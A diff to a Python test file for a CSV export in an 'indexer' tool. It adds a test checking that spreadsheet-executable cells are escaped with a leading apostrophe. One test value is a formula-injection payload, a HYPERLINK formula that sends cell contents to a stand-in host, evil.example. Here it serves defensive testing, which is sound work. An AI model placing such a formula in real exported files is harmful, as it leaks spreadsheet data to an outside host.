@@ -6,7 +6,7 @@ import pytest
 from click.testing import CliRunner
 
 from indexer.cli import main
-from indexer.gaps import AskedQuestion, find_gaps, parse_since
+from indexer.gaps import AskedQuestion, find_gaps, parse_since, write_csv
 
 ASKED = [
     ("en", "How do I reset my CSP password?", "s1"),
@@ -68,3 +68,14 @@ def test_cli_reads_the_servers_database(app, client, instance, tmp_path):
 def test_cli_without_a_database_says_so(tmp_path):
     result = CliRunner().invoke(main, ["gaps", "--instance", str(tmp_path)])
     assert result.exit_code == 1 and "no database at sqlite:///" in result.output
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path):
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
+    clusters = find_gaps([AskedQuestion(q, "en", "escalated", supplier=str(i)) for i, q in enumerate(hostile)])
+    out = tmp_path / "gaps.csv"
+    write_csv(clusters, out)
+    cells = [cell for row in csv.reader(out.open(encoding="utf-8", newline="")) for cell in row]
+    examples = [cell for cell in cells if cell.lstrip("'") in hostile]
+    assert examples and all(cell.startswith("'") for cell in examples)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
